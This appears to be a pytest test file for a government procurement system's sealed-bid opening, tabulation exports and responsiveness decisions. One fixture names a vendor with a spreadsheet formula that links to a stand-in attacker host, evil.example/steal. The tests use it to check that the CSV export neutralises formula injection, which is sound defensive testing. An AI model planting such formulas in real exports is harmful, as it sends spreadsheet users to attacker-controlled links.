"""The opening: who may open and when, what the opening writes (prices, totals, flags, audit),
what the public and staff see before and after, the tabulation (page, PDF, CSV) and the
responsiveness decisions."""
from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from app.core import clock
from app.core.roles import Role
from app.extensions import db
from tests.bids.conftest import Bidding, make_pdf
from tests.bids.sealed_support import bid_events, bid_state, pdf_text, signed_in, submit, tables, text_of

W9 = {0: (make_pdf("W-9"), "w9.pdf")}


def _status(app, solicitation_id: int):
    from app.solicitations.models import Solicitation

    with app.app_context():
        s = db.session.get(Solicitation, solicitation_id)
        return s.status.value, s.opened_at


def _bid_lines(app, solicitation_id: int) -> int:
    from app.bids.models import Bid, BidLine

    with app.app_context():
        return db.session.scalar(select(func.count(BidLine.id)).join(Bid)
                                 .where(Bid.solicitation_id == solicitation_id)) or 0


def _post_status(client, solicitation_id: int, target: str):
    return client.submit(f"/agency/solicitations/{solicitation_id}/status/{target}", follow_redirects=False)


def _flash_after(client, response) -> str:
    assert response.status_code == 302, response.status_code
    return text_of(client.get(response.headers["Location"]).get_data(as_text=True))


@pytest.fixture
def one_bid(app, bidding, make_vendor, post_bid):
    vendor = make_vendor("Old Dominion Stationers")
    submit(post_bid, signed_in(app, vendor), prices={1: "12.50", 2: "80.00"}, documents=W9)
    return vendor


@pytest.fixture
def closed(app, bidding, one_bid, try_transition):
    clock.freeze(bidding.due_at + timedelta(minutes=1))
    assert try_transition(bidding.agency.officer.id, bidding.id, "closed") is None
    return bidding


# ----------------------------------------------------------------------------- who and when
# Another agency's staff get 404, as for a solicitation id that does not exist.
@pytest.mark.parametrize("who,http_status", [("approver", 302), ("evaluator", 302), ("buyer", 403),
                                             ("vendor", 403), ("other officer", 404), ("other admin", 404)])
def test_only_the_lead_agencys_officer_or_admin_may_open(app, closed, one_bid, other_agency, make_vendor,
                                                         try_transition, who, http_status):
    user = {"approver": closed.agency.approver, "evaluator": closed.agency.evaluator,
            "buyer": closed.agency.buyer, "vendor": one_bid,
            "other officer": other_agency.officer, "other admin": other_agency.admin}[who]
    client = signed_in(app, user)
    response = _post_status(client, closed.id, "opened")
    assert response.status_code == http_status
    if http_status == 302:
        assert "You are not allowed to do this." in _flash_after(client, response)
    error = try_transition(user.id, closed.id, "opened")
    assert error is not None and error.message == "You are not allowed to do this."
    assert _status(app, closed.id) == ("closed", None)
    assert _bid_lines(app, closed.id) == 0
    assert bid_state(app, closed.id, one_bid.organization_id)["opened_at"] is None
    assert not bid_events(app, closed.id, "bids.")


@pytest.mark.parametrize("role", [Role.PROCUREMENT_OFFICER, Role.AGENCY_ADMIN])
def test_lead_officer_or_admin_opens(app, closed, one_bid, audit_events, role):
    user = closed.agency.user_with(role)
    client = signed_in(app, user)
    page = _flash_after(client, _post_status(client, closed.id, "opened"))
    assert f"{closed.number} is now opened." in page
    status, opened_at = _status(app, closed.id)
    assert status == "opened" and opened_at == clock.now()
    assert _bid_lines(app, closed.id) == 2
    opened = [e for e in audit_events(closed.id) if e.action in ("bids.opened", "solicitation.opened")]
    assert [(e.action, e.actor_id) for e in opened] == [("bids.opened", user.id), ("solicitation.opened", user.id)]


def test_not_before_the_deadline(app, bidding, one_bid, try_transition):
    officer = signed_in(app, bidding.agency.officer)
    clock.freeze(bidding.due_at - timedelta(minutes=1))
    page = _flash_after(officer, _post_status(officer, bidding.id, "opened"))
    assert "A solicitation cannot go from published to opened." in page
    page = _flash_after(officer, _post_status(officer, bidding.id, "closed"))
    assert "Bids are accepted until the due date; it can be closed only after that." in page
    assert _status(app, bidding.id) == ("published", None)
    # Closed, but the clock says the deadline has not come (a clock set back): still not opened.
    clock.freeze(bidding.due_at + timedelta(minutes=1))
    assert try_transition(bidding.agency.officer.id, bidding.id, "closed") is None
    clock.freeze(bidding.due_at - timedelta(seconds=1))
    error = try_transition(bidding.agency.officer.id, bidding.id, "opened")
    assert error is not None and "Bids are accepted until the due date" in " ".join(error.problems)
    assert _status(app, bidding.id)[0] == "closed" and _bid_lines(app, bidding.id) == 0


def test_published_past_the_deadline_must_be_closed_first(app, bidding, one_bid):
    officer = signed_in(app, bidding.agency.officer)
    clock.freeze(bidding.due_at + timedelta(minutes=1))
    page = _flash_after(officer, _post_status(officer, bidding.id, "opened"))
    assert "A solicitation cannot go from published to opened." in page
    assert _status(app, bidding.id) == ("published", None) and _bid_lines(app, bidding.id) == 0
    _flash_after(officer, _post_status(officer, bidding.id, "closed"))
    _flash_after(officer, _post_status(officer, bidding.id, "opened"))
    assert _status(app, bidding.id)[0] == "opened" and _bid_lines(app, bidding.id) == 2


# ----------------------------------------------------------------------------- what the opening writes
ITEMS = [
    {"description": "Copy paper, 8.5 x 11, case of 10 reams", "unit": "case", "estimated_quantity": Decimal(1200)},
    {"description": "Toner cartridge, black", "unit": "each", "estimated_quantity": Decimal(300)},
    {"description": "Pallet delivery beyond 25 miles", "unit": "mile", "estimated_quantity": Decimal("12.5")},
]
# Hand-computed: unit price x estimated quantity, rounded half-up to cents, summed.
DOMINION = ("Dominion Paper & Toner", {1: "31.4750", 2: "88.99", 3: "1.0004"},
            # 37,770.00 + 26,697.00 + 12.505 -> 12.51
            [Decimal("37770.00"), Decimal("26697.00"), Decimal("12.51")], Decimal("64479.51"))
FAIRFAX = ("Fairfax Office Source", {1: "29.99", 2: "92.50", 3: "1.10"},
           # 35,988.00 + 27,750.00 + 13.75
           [Decimal("35988.00"), Decimal("27750.00"), Decimal("13.75")], Decimal("63751.75"))
EASTERN = ("Eastern Shore Supply", {1: "30.25", 3: "0.9999"},
           # 36,300.00 + no price + 12.49875 -> 12.50
           [Decimal("36300.00"), None, Decimal("12.50")], Decimal("36312.50"))


@dataclass(frozen=True)
class Opening:
    info: Bidding
    vendors: dict  # name -> UserInfo
    receipts: dict  # name -> receipt number


@pytest.fixture
def three_bids(app, make_solicitation, make_vendor, post_bid) -> Opening:
    """An RFP asking for a W-9 and a 5% bid bond, three price lines (one with a fractional
    quantity). Fairfax submits a complete bid; then addendum 1 is issued; Dominion submits a
    complete bid acknowledging it; Eastern Shore acknowledges it but sends no W-9, no bid bond and
    no price for line 2."""
    from app.accounts.models import User
    from app.solicitations import services as solicitation_services
    from app.solicitations.models import Solicitation

    made = make_solicitation("published", required_documents=["w9"], bid_bond_percent=Decimal("5"), items=ITEMS)
    with app.app_context():
        s = db.session.get(Solicitation, made.id)
        info = Bidding(made.id, made.number, made.agency, {i.position: i.id for i in s.items}, s.due_at)
    vendors, receipts = {}, {}

    def bid(entry, **kwargs):
        name, prices = entry[0], entry[1]
        vendors[name] = make_vendor(name)
        receipts[name] = submit(post_bid, signed_in(app, vendors[name]), number=info.number,
                                item_ids=info.item_ids, prices=prices, **kwargs)

    bond = {0: (make_pdf("W-9"), "w9.pdf"), 1: (make_pdf("Bid bond, 5%"), "bid-bond.pdf")}
    bid(FAIRFAX, documents=bond)
    with app.test_request_context():
        solicitation_services.issue_addendum(db.session.get(User, info.agency.officer.id),
                                             db.session.get(Solicitation, info.id),
                                             title="Revised delivery sites",
                                             body_md="Deliveries go to the new warehouse at 12 Depot Road.")
        db.session.commit()
    bid(DOMINION, documents=bond, acknowledge=(1,))
    bid(EASTERN, acknowledge=(1,))
    return Opening(info, vendors, receipts)


def test_opening_writes_prices_totals_and_flags(app, three_bids, open_bids):
    open_bids(three_bids.info)
    expected_flags = {
        DOMINION[0]: [],
        FAIRFAX[0]: ["Addendum 1 not acknowledged"],
        EASTERN[0]: ["Missing document: IRS Form W-9", "Missing bid bond", "No price for line 2"],
    }
    for name, prices, extended, total in (DOMINION, FAIRFAX, EASTERN):
        state = bid_state(app, three_bids.info.id, three_bids.vendors[name].organization_id)
        assert state["opened_at"] is not None
        by_item = {item_id: (unit, ext) for item_id, unit, ext in state["lines"]}
        assert len(by_item) == 3, name
        for line in (1, 2, 3):
            unit, ext = by_item[three_bids.info.item_ids[line]]
            assert unit == (Decimal(prices[line]) if line in prices else None), (name, line)
            assert ext == extended[line - 1], (name, line)
        assert state["total"] == total, name
        assert sum(e for e in extended if e is not None) == total
        with app.app_context():
            from app.bids.models import Bid

            assert db.session.get(Bid, state["id"]).flags == expected_flags[name], name


def test_incomplete_bid_is_not_the_lowest_total(app, three_bids, open_bids):
    """Eastern Shore's total is the smallest only because line 2 has no price: the tabulation
    marks its lines where it is lowest, but the lowest total goes to the lowest complete bid."""
    open_bids(three_bids.info)
    officer = signed_in(app, three_bids.info.agency.officer)
    page = officer.get(f"/agency/solicitations/{three_bids.info.id}/tabulation").get_data(as_text=True)
    assert _marks(page) == {"1": [FAIRFAX[0]], "2": [DOMINION[0]], "3": [EASTERN[0]],
                            "Total (extended)": [FAIRFAX[0]]}
    [table] = [t for t in tables(page) if t and "Line" in t[0][0].text]
    header = [c.text for c in table[0]][3:]
    line2 = dict(zip(header, [c.text for c in table[2][3:]]))
    assert line2[EASTERN[0]] == "no price"
    totals = dict(zip(header, [c.text for c in table[-1][1:]]))
    assert totals == {DOMINION[0]: "$64,479.51", FAIRFAX[0]: "$63,751.75 Lowest", EASTERN[0]: "$36,312.50"}


def test_opening_is_audited_with_receipts_digests_and_totals(app, three_bids, open_bids, audit_events):
    from app.bids.models import BidVersion

    open_bids(three_bids.info)
    with app.app_context():
        digests = {v.receipt_number: v.digest for v in db.session.scalars(select(BidVersion))}
    events = audit_events(three_bids.info.id)
    actions = [e.action for e in events]
    assert actions.index("bids.opened") < actions.index("solicitation.opened")
    [opened] = [e for e in events if e.action == "bids.opened"]
    assert opened.actor_id == three_bids.info.agency.officer.id
    assert opened.organization_id == three_bids.info.agency.id
    assert opened.data["withdrawn"] == 0
    assert [(b["vendor"], b["receipt"], b["digest"], b["total"]) for b in opened.data["bids"]] == [
        (name, three_bids.receipts[name], digests[three_bids.receipts[name]], str(total))
        for name, _, _, total in sorted((DOMINION, FAIRFAX, EASTERN))]
    [transition] = [e for e in events if e.action == "solicitation.opened"]
    assert transition.data["from"] == "closed" and transition.data["to"] == "opened"


def test_public_results_only_after_opening(app, three_bids, open_bids, client):
    url = f"/solicitations/{three_bids.info.number}/results"
    before = client.get(url).get_data(as_text=True)
    assert "Bids are sealed until the public opening" in before
    for name in three_bids.vendors:
        assert name not in before and name.replace("&", "&amp;") not in before
    assert not any(r in before for r in three_bids.receipts.values())
    assert "3 bids" not in before and "bids received" not in before and "<table" not in before
    open_bids(three_bids.info)
    after = client.get(url).get_data(as_text=True)
    assert "3 bids received" in after
    [table] = tables(after)
    # Complete bids first, lowest total first; Eastern Shore left line 2 unpriced, so its lower
    # total is not presented as the lowest.
    rows = [[" ".join(c.text.split()) for c in row][0::2] for row in table[1:]]
    assert rows == [["Fairfax Office Source", "$63,751.75"], ["Dominion Paper & Toner", "$64,479.51"],
                    ["Eastern Shore Supply", "$36,312.50 (no price for 1 line)"]]


def test_staff_bids_page_before_opening_shows_only_the_count(app, three_bids, open_bids):
    officer = signed_in(app, three_bids.info.agency.officer)
    page = officer.get(f"/agency/solicitations/{three_bids.info.id}/bids").get_data(as_text=True)
    assert '<p class="display-6 mb-1">3</p>' in page
    for name in three_bids.vendors:
        assert name not in page and name.replace("&", "&amp;") not in page
    assert not any(r in page for r in three_bids.receipts.values())
    assert "$" not in text_of(page.split("<main", 1)[-1])
    open_bids(three_bids.info)
    page = officer.get(f"/agency/solicitations/{three_bids.info.id}/bids").get_data(as_text=True)
    assert all(r in page for r in three_bids.receipts.values())
    assert "Missing bid bond" in page and "Addendum 1 not acknowledged" in page


# ----------------------------------------------------------------------------- tabulation
EVIL = '=HYPERLINK("http://evil.example/steal","Click for details")'
ALPHA, BRAVO, CHARLIE = "Alpha Office Products", "Bravo Business Supply", "Charlie Paper Co"
# Totals: Charlie 22,800.00 < Alpha 27,000.00 < Bravo 28,500.00 < EVIL 39,000.00
TAB_PRICES = {ALPHA: {1: "10.00", 2: "50.00"}, BRAVO: {1: "10.00", 2: "55.00"},
              CHARLIE: {1: "9.00", 2: "40.00"}, EVIL: {1: "15.00", 2: "70.00"}}


@pytest.fixture
def tabulated(app, bidding, make_vendor, post_bid, open_bids):
    bids = {}
    for name, prices in TAB_PRICES.items():
        vendor = make_vendor(name)
        submit(post_bid, signed_in(app, vendor), prices=prices, documents=W9)
        bids[name] = vendor
    open_bids(bidding)
    return {name: bid_state(app, bidding.id, v.organization_id)["id"] for name, v in bids.items()}


def _marks(page: str) -> dict:
    """{row label: [bidders whose cell is marked lowest]} from the tabulation table."""
    [table] = [t for t in tables(page) if t and "Line" in t[0][0].text]
    header = [c.text for c in table[0]][3:]
    marks = {}
    for row in table[1:]:
        cells = row[-len(header):]
        marks[row[0].text] = [name for name, cell in zip(header, cells) if "lowest" in cell.classes]
    return marks


def _csv(officer, bidding) -> list[list[str]]:
    response = officer.get(f"/agency/solicitations/{bidding.id}/tabulation.csv")
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_tabulation_marks_lowest_per_line_and_total(app, bidding, tabulated):
    officer = signed_in(app, bidding.agency.officer)
    page = officer.get(f"/agency/solicitations/{bidding.id}/tabulation").get_data(as_text=True)
    assert _marks(page) == {"1": [CHARLIE], "2": [CHARLIE], "Total (extended)": [CHARLIE]}
    rows = _csv(officer, bidding)
    assert rows[1][-1] == CHARLIE and rows[2][-1] == CHARLIE and rows[3][-1] == CHARLIE
    assert rows[3][1] == "Total"
    text = pdf_text(officer.get(f"/agency/solicitations/{bidding.id}/tabulation.pdf").data)
    tokens = [t.strip() for t in text.split("\n") if t.strip()]
    assert [tokens[i + 1] for i, t in enumerate(tokens) if t == "Lowest"] == ["$9.00", "$40.00", "$22,800.00"]


def test_tabulation_ties_and_non_responsive_bid_left_out(app, bidding, tabulated):
    officer = signed_in(app, bidding.agency.officer)
    decided = officer.submit(f"/agency/solicitations/{bidding.id}/bids/{tabulated[CHARLIE]}",
                             {"decision": "non_responsive", "reason": "No certificate of insurance; took "
                                                                      "exception to the indemnity clause."})
    assert decided.status_code == 302
    page = officer.get(f"/agency/solicitations/{bidding.id}/tabulation").get_data(as_text=True)
    # Line 1: Alpha and Bravo tie at $10.00 and are both marked; Charlie's $9.00 is not counted.
    assert _marks(page) == {"1": [ALPHA, BRAVO], "2": [ALPHA], "Total (extended)": [ALPHA]}
    assert "$9.00" in page  # still shown, just not the lowest

    rows = _csv(officer, bidding)
    header = rows[0]
    assert header[:4] == ["Line", "Description", "Unit", "Estimated quantity"]
    assert header[-2:] == ["Lowest unit price", "Lowest bidder(s)"]
    assert rows[1][-2:] == ["10.0000", f"{ALPHA}; {BRAVO}"]
    assert rows[2][-2:] == ["50.0000", ALPHA]
    assert rows[3][1] == "Total" and rows[3][-1] == ALPHA
    totals = dict(zip([h.removesuffix(" extended") for h in header[5::2]], rows[3][5::2]))
    assert totals[ALPHA] == "27000.00" and totals[CHARLIE] == "22800.00"
    assert rows[4][1] == "Responsiveness" and "Non-responsive" in rows[4]

    text = pdf_text(officer.get(f"/agency/solicitations/{bidding.id}/tabulation.pdf").data)
    assert "Bid tabulation" in text and bidding.number in text
    squeezed = "".join(text.split())
    for name in (ALPHA, BRAVO, CHARLIE):
        assert "".join(name.split()) in squeezed  # names wrap inside their narrow columns
    assert "Non-responsive" in text
    # The PDF prints "Lowest" above a marked cell: the values right after each mark are both $10.00
    # cells of line 1 (Alpha, Bravo), Alpha's $50.00 on line 2 and Alpha's total.
    tokens = [t.strip() for t in text.split("\n") if t.strip()]
    marked = [tokens[i + 1] for i, t in enumerate(tokens) if t == "Lowest"]
    assert marked == ["$10.00", "$10.00", "$50.00", "$27,000.00"], tokens


def test_csv_neutralises_a_formula_in_a_line_description(app, bidding, tabulated):
    with app.app_context():
        from app.solicitations.models import Solicitation
        s = db.session.get(Solicitation, bidding.id)
        s.items[0].description, s.items[0].unit = "+1 555 0100 hotline", "@each"
        db.session.commit()
    rows = _csv(signed_in(app, bidding.agency.officer), bidding)
    assert rows[1][1:3] == ["'+1 555 0100 hotline", "'@each"]


def test_csv_neutralises_a_formula_in_a_vendor_name(app, bidding, tabulated):
    officer = signed_in(app, bidding.agency.officer)
    rows = _csv(officer, bidding)
    cells = [cell for row in rows for cell in row]
    assert f"'{EVIL} unit price" in cells and f"'{EVIL} extended" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    # The page escapes it as text.
    page = officer.get(f"/agency/solicitations/{bidding.id}/tabulation").get_data(as_text=True)
    assert "=HYPERLINK(&#34;http://evil.example/steal&#34;" in page or \
        "=HYPERLINK(&quot;http://evil.example/steal&quot;" in page


# ----------------------------------------------------------------------------- responsiveness
def test_officer_decides_responsiveness_and_it_is_audited(app, bidding, tabulated):
    from app.bids.models import Bid

    officer = signed_in(app, bidding.agency.officer)
    url = f"/agency/solicitations/{bidding.id}/bids/{tabulated[CHARLIE]}"
    missing = officer.submit(url, {"decision": "non_responsive", "reason": "   "})
    assert missing.status_code == 200
    page = missing.get_data(as_text=True)
    error = page.split('id="reason-error"', 1)[1].split("</div>", 1)[0]
    assert "Give the reason the bid is non-responsive; it is part of the record." in error
    assert 'aria-invalid="true"' in page.split('id="reason-error"', 1)[0].rsplit("<textarea", 1)[1]
    assert bid_state(app, bidding.id, _org(app, tabulated[CHARLIE]))["responsiveness"] == "pending"
    assert not [e for e in bid_events(app, bidding.id) if e.action.startswith("bid.non")]

    reason = "No certificate of insurance."
    assert officer.submit(url, {"decision": "non_responsive", "reason": reason}).status_code == 302
    admin = signed_in(app, bidding.agency.admin)
    assert admin.submit(f"/agency/solicitations/{bidding.id}/bids/{tabulated[ALPHA]}",
                        {"decision": "responsive", "reason": ""}).status_code == 302
    with app.app_context():
        charlie, alpha = db.session.get(Bid, tabulated[CHARLIE]), db.session.get(Bid, tabulated[ALPHA])
        assert (charlie.responsiveness.value, charlie.responsiveness_reason, charlie.decided_by_id) == \
            ("non_responsive", reason, bidding.agency.officer.id)
        assert (alpha.responsiveness.value, alpha.responsiveness_reason, alpha.decided_by_id) == \
            ("responsive", None, bidding.agency.admin.id)
    decisions = [e for e in bid_events(app, bidding.id) if e.action in ("bid.responsive", "bid.non_responsive")]
    assert [(e.action, e.actor_id, e.data["vendor"], e.data["reason"]) for e in decisions] == [
        ("bid.non_responsive", bidding.agency.officer.id, CHARLIE, reason),
        ("bid.responsive", bidding.agency.admin.id, ALPHA, None)]
    assert all(e.organization_id == bidding.agency.id for e in decisions)


def _org(app, bid_id: int) -> int:
    from app.bids.models import Bid

    with app.app_context():
        return db.session.get(Bid, bid_id).vendor_id


@pytest.mark.parametrize("role", [Role.EVALUATOR, Role.APPROVER, Role.BUYER])
def test_other_staff_cannot_decide(app, bidding, tabulated, role):
    staff = signed_in(app, bidding.agency.user_with(role))
    if role == Role.EVALUATOR:  # an evaluator reads bids only seated on the committee and signed
        evaluator = bidding.agency.evaluator
        assert signed_in(app, bidding.agency.officer).submit(
            f"/agency/solicitations/{bidding.id}/evaluation",
            {"evaluators": [evaluator.id], "chair": evaluator.id}).status_code == 302
        assert staff.submit(f"/agency/solicitations/{bidding.id}/evaluation/attest",
                            {"answer": "none"}).status_code == 302
    url = f"/agency/solicitations/{bidding.id}/bids/{tabulated[CHARLIE]}"
    response = staff.submit(url, {"decision": "non_responsive", "reason": "Looks too cheap"})
    assert response.status_code == 403
    if role != Role.BUYER:  # seated evaluators and approvers read the opened bid, without the decision form
        page = staff.get(url).get_data(as_text=True)
        assert CHARLIE in page and "Record decision" not in page
    assert bid_state(app, bidding.id, _org(app, tabulated[CHARLIE]))["responsiveness"] == "pending"
    assert not [e for e in bid_events(app, bidding.id) if e.action in ("bid.responsive", "bid.non_responsive")]


def test_no_decision_before_opening(app, bidding, one_bid):
    from app.accounts.models import User
    from app.bids.models import Bid
    from app.bids.opening import decide_responsiveness
    from app.core.errors import NotPermitted

    bid_id = bid_state(app, bidding.id, one_bid.organization_id)["id"]
    officer = signed_in(app, bidding.agency.officer)
    response = officer.submit(f"/agency/solicitations/{bidding.id}/bids/{bid_id}",
                              {"decision": "responsive", "reason": ""})
    assert response.status_code == 404
    with app.test_request_context():
        with pytest.raises(NotPermitted):
            decide_responsiveness(db.session.get(User, bidding.agency.officer.id), db.session.get(Bid, bid_id),
                                  True, "")
        db.session.rollback()
    assert bid_state(app, bidding.id, one_bid.organization_id)["responsiveness"] == "pending"
